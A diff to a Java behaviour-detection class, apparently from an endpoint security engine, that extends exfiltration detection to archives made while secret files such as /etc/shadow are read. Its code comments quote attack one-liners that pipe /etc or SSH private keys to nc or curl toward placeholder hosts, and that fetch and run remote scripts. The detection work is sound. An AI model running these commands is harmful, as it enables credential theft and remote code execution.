@@ -33,7 +33,12 @@ final class BehaviourAccumulator implements FeatureAccumulator {
      * last extension), not marked for archivers and package tools ({@code gzip -k f} writes {@code f.gz}).
      */
     private static final int STEM = 4;
-    private static final int FILE_KINDS = 5;
+    /**
+     * Files a process created while it read a secret file, before or after ({@code tar czf x.tgz /etc}: the archive
+     * holds /etc/shadow), keyed by basename.
+     */
+    private static final int SECRET_COPY = 5;
+    private static final int FILE_KINDS = 6;
     private static final int MAX_GENERATION = 8;
     private static final int MASS_REWRITE_FILES = 8;
     /** Where counters handed up the fork tree stop. */
@@ -237,8 +242,15 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     private boolean readSecret;
     /** Its stdout pipe was published as secret ({@link #publishSecretPipe()}). */
     private boolean secretPublished;
+    /** Other pipes it wrote into after reading a secret, published as secret (at most {@link #SECRET_PIPES}), and the last. */
+    private int secretPipesPublished;
+    private long lastSecretPipe;
+    /** The descriptor of the last file it wrote into as a secret reader, marked {@link #SECRET_COPY}; -1 before. */
+    private int lastSecretFileFd = -1;
     /** {@link #secretToNetwork} fired (once). */
     private boolean exfiltrationNoted;
+    /** It opened for reading a file its family made while reading a secret ({@link #SECRET_COPY}); kept across exec. */
+    private boolean readsSecretCopy;
     /**
      * The descriptor a shell opened from {@code /dev/fd/N} or {@code /proc/self/fd/N} until its first read, dup or
      * close ({@code source <(curl URL)} reads it; {@code done < <(cmd)} dups it onto 0 first); -1 for none.
@@ -762,6 +774,14 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                 CharSequence p = Arguments.nth(e.arguments(), pathIndex);
                 if (startsWith(p, "\"/dev/fd/") || startsWith(p, "\"/proc/self/fd/")) {
                     sourcedFd = (int) e.returnValue(); // source <(curl URL), or a redirection from one
+                }
+            }
+            if (!readsSecretCopy && flagsIndex >= 0 && familyMade(SECRET_COPY, true) && startsWith(Arguments.nth(e.arguments(), flagsIndex), "O_RDONLY")) {
+                String p = path(e, pathIndex);
+                readsSecretCopy = p != null && madeInFamily(SECRET_COPY, p); // tar czf x.tgz /etc; curl -F f=@x.tgz URL
+                if (readsSecretCopy) {
+                    note(EvidenceLog.MEDIUM, e, e.arguments());
+                    secretToNetwork(e);
                 }
             }
             if (!readsFetched && flagsIndex >= 0 && familyFetched() && startsWith(Arguments.nth(e.arguments(), flagsIndex), "O_RDONLY")) {
@@ -1297,6 +1317,9 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             }
             stdinOwn = true;
             secretToNetwork(e);
+            if (!readSecret && familySecretPipe(stdinPipe)) {
+                readsSecrets(); // gzip behind tar czf x.tgz /etc: it made x.tgz, what it writes there is the secret
+            }
             if (programFromStdin && !programReadNoted) {
                 programReadNoted = true;
                 note(EvidenceLog.MEDIUM, e, e.arguments()); // what curl URL | sh, sh < x.sh ran: the start of its program
@@ -1341,6 +1364,22 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if (first == '/' && i + 17 <= args.length() && args.charAt(i + 1) == 'p' && args.charAt(i + 6) == 's'
                 && startsWith(args.subSequence(i, i + 17), "/proc/sys/kernel/")) {
             kernelSettingWritten(e);
+        } else if (first == '/' && readSecret) {
+            int fd = Arguments.fd(args);
+            if (fd != lastSecretFileFd) { // once per descriptor in a row: an archiver writes thousands of blocks
+                lastSecretFileFd = fd;
+                String path = Arguments.fdPath(Arguments.nth(args, 0));
+                if (path != null && !path.startsWith("/dev/") && !path.startsWith("/proc/")) {
+                    mark(SECRET_COPY, key(SECRET_COPY, path)); // gzip behind tar czf x.tgz /etc writing x.tgz
+                }
+            }
+        } else if (first == 'p' && readSecret && secretPipesPublished < SECRET_PIPES) {
+            long inode = pipeInode(Arguments.fdDecoration(Arguments.nth(args, 0)));
+            if (inode != 0 && inode != lastSecretPipe) {
+                lastSecretPipe = inode;
+                secretPipesPublished++;
+                publishSecretPipe(inode); // tar czf writing into its gzip
+            }
         } else if (handTool && ((first == 'T' || first == 'U') && decoratedAsInet(args) || metadataFd >= 0)) {
             metadataRequest(e);
         }
@@ -1559,39 +1598,77 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         }
     }
 
+    /**
+     * It read a secret file, or a pipe carrying one: what it writes out carries secrets. The files it created just
+     * before ({@code tar cf x.tar /etc} made x.tar first) and after are {@link #SECRET_COPY}, and its stdout pipe is
+     * published to its family.
+     */
+    private void readsSecrets() {
+        readSecret = true;
+        publishSecretPipe();
+        for (int i = 0; i < createdOfflineCount; i++) {
+            mark(SECRET_COPY, createdOffline[i]);
+        }
+    }
+
     /** Once it read a secret file: its stdout pipe, once known, carries secrets for its family's readers. */
     private void publishSecretPipe() {
         if (!readSecret || secretPublished || stdoutPipe == 0) {
             return;
         }
         secretPublished = true;
+        publishSecretPipe(stdoutPipe);
+    }
+
+    /** To the fork nodes of its family, its own included (a filter it forked reads what it writes: tar czf's gzip). */
+    private void publishSecretPipe(long inode) {
+        if (forkNode != null) {
+            forkNode.addSecretPipe(inode);
+        }
         for (int i = 0; i < LEVELS_ABOVE; i++) {
             ForkNode n = above(i);
             if (n != null) {
-                n.addSecretPipe(stdoutPipe);
+                n.addSecretPipe(inode);
             }
         }
     }
 
-    /**
-     * A process holding an inet connection that reads its stdin from a pipe a secret-reading member of its family
-     * writes into: {@code tar czf - /etc | nc HOST PORT}, {@code cat ~/.ssh/id_rsa | curl -T - URL} (T1048, T1552);
-     * not a transfer or backup client (ssh, rsync, aws, rclone, restic, borg, ...)
-     */
-    private void secretToNetwork(TraceEvent e) {
-        if (exfiltrationNoted || !connectedInet || stdinPipe == 0 || Indicators.transferClient(exeBase)) {
-            return;
+    /** @return true when the pipe was published as carrying secrets to a fork node of its family */
+    private boolean familySecretPipe(long inode) {
+        if (inode == 0) {
+            return false;
         }
         for (int i = 0; i < LEVELS_ABOVE; i++) {
             ForkNode n = above(i);
-            if (n != null && n.hasSecretPipe(stdinPipe)) {
-                exfiltrationNoted = true;
-                set(Feature.IND_CREDENTIAL_READ);
-                log().add(EvidenceLog.HIGH, "its stdin is a pipe a family member that read a secret file writes into: pipe:[" + stdinPipe + "]");
-                if (e != null) {
-                    note(EvidenceLog.HIGH, e, e.arguments());
-                }
-                return;
+            if (n != null && n.hasSecretPipe(inode)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /**
+     * A process holding an inet connection that reads its stdin from a pipe a secret-reading member of its family
+     * writes into: {@code tar czf - /etc | nc HOST PORT}, {@code cat ~/.ssh/id_rsa | curl -T - URL}, or that read a
+     * file its family made while reading a secret: {@code tar czf x.tgz /etc; curl -F f=@x.tgz URL} (T1048, T1552);
+     * not a transfer or backup client (ssh, rsync, aws, rclone, restic, borg, ...)
+     */
+    private void secretToNetwork(TraceEvent e) {
+        if (exfiltrationNoted || !connectedInet || Indicators.transferClient(exeBase)) {
+            return;
+        }
+        if (readsSecretCopy) {
+            exfiltrationNoted = true;
+            set(Feature.IND_CREDENTIAL_READ);
+            log().add(EvidenceLog.HIGH, "it read a file its family made while reading a secret file, and holds an inet connection");
+            return;
+        }
+        if (familySecretPipe(stdinPipe)) {
+            exfiltrationNoted = true;
+            set(Feature.IND_CREDENTIAL_READ);
+            log().add(EvidenceLog.HIGH, "its stdin is a pipe a family member that read a secret file writes into: pipe:[" + stdinPipe + "]");
+            if (e != null) {
+                note(EvidenceLog.HIGH, e, e.arguments());
             }
         }
     }
@@ -1890,8 +1967,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         boolean secret = (bits & PathRules.SHADOW) != 0 || Indicators.credentialStore(path) || Indicators.privateKey(path)
                 || (bits & PathRules.PROC_OTHER) != 0 && path.endsWith("/environ") && !Indicators.Role.PROCESS_VIEWER.of(exeBase);
         if ((secret || Indicators.workloadSecret(path)) && !directory && !readSecret) {
-            readSecret = true; // tar czf - /etc | nc HOST PORT: a backup's read, but its output must not go online
-            publishSecretPipe();
+            readsSecrets(); // tar czf - /etc | nc HOST PORT: a backup's read, but its output must not go online
         }
         if (secret && !directory && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.SSH.of(exeBase) && !walkedInto(path)
                 && !((bits & PathRules.SHADOW) != 0 && installedPerlProgram()) && !Indicators.storeClient(path, exeBase)) {
@@ -2137,6 +2213,9 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     private void markCreated(String path, boolean link) {
         int h = key(CREATED, path);
         mark(CREATED, h);
+        if (readSecret) {
+            mark(SECRET_COPY, h); // the keys of CREATED and SECRET_COPY are the same basename hash
+        }
         int dot = path.lastIndexOf('.');
         if (dot > path.lastIndexOf('/') + 1 && !Indicators.Role.TREE.of(exeBase) && !Indicators.Role.PACKAGE.of(exeBase)) {
             mark(STEM, key(STEM, path.substring(0, dot))); // report.docx.locked: report.docx
@@ -2224,13 +2303,23 @@ final class BehaviourAccumulator implements FeatureAccumulator {
 
     /** @return true if anything its family wrote (as far as {@link #madeInFamily} sees) was written after an inet connect */
     private boolean familyFetched() {
-        if (made[FETCHED] != null || parentNode != null && parentNode.endedChildren[FETCHED] != null
-                || forkNode != null && forkNode.endedChildren[FETCHED] != null) {
+        return familyMade(FETCHED, false);
+    }
+
+    /**
+     * @param beforeExec also the fork node it had before its last exec ({@code bash -c '... && curl ...'} runs its
+     *     last command in place)
+     * @return true if its family made anything of that kind, as far as {@link #madeInFamily} sees
+     */
+    private boolean familyMade(int kind, boolean beforeExec) {
+        if (made[kind] != null || parentNode != null && parentNode.endedChildren[kind] != null
+                || forkNode != null && forkNode.endedChildren[kind] != null
+                || beforeExec && nodeBeforeExec != null && nodeBeforeExec.endedChildren[kind] != null) {
             return true;
         }
         if (nodesAbove != null) {
             for (ForkNode node : nodesAbove) {
-                if (node != null && node.endedChildren[FETCHED] != null) {
+                if (node != null && node.endedChildren[kind] != null) {
                     return true;
                 }
             }
